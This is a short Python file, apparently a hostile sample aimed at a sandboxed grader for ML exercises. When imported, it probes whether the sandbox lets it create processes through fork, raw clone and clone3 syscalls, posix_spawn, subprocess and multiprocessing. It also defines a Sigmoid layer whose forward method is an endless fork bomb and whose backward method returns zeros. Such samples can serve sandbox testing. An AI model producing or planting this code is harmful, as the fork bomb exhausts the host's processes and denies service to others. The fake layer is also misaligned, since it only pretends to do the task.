# Tries: doubles itself until the machine has no processes left
# Deserves: 0 (all its answers are zeros)
import ctypes
import multiprocessing
import os
import subprocess

ARM = os.uname().machine == "aarch64"
libc = ctypes.CDLL(None, use_errno=True)
born = []


def attempt(what, action):
    try:
        pid = action()
    except (OSError, subprocess.SubprocessError, AttributeError):
        return
    if pid == 0 and what in ("fork", "forkpty", "clone", "clone3"):
        os._exit(0)
    born.append(what)


def checked(result):
    if result < 0:
        raise OSError
    return result


attempt("fork", os.fork)
attempt("forkpty", lambda: os.forkpty()[0])
attempt("clone", lambda: checked(libc.syscall(220 if ARM else 56, 17, 0, 0, 0, 0)))
attempt("clone3", lambda: checked(libc.syscall(435, (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17), 88)))
attempt("spawn", lambda: os.posix_spawn("/bin/true", ["true"], {}))
attempt("run", lambda: subprocess.run(["true"]).returncode)
attempt("pool", lambda: multiprocessing.Process(target=print).start())
if born:
    raise RuntimeError("LOOT " + " ".join(born))


class Sigmoid:
    def forward(self, x):
        while True:
            os.fork()

    def backward(self, dout):
        return dout * 0
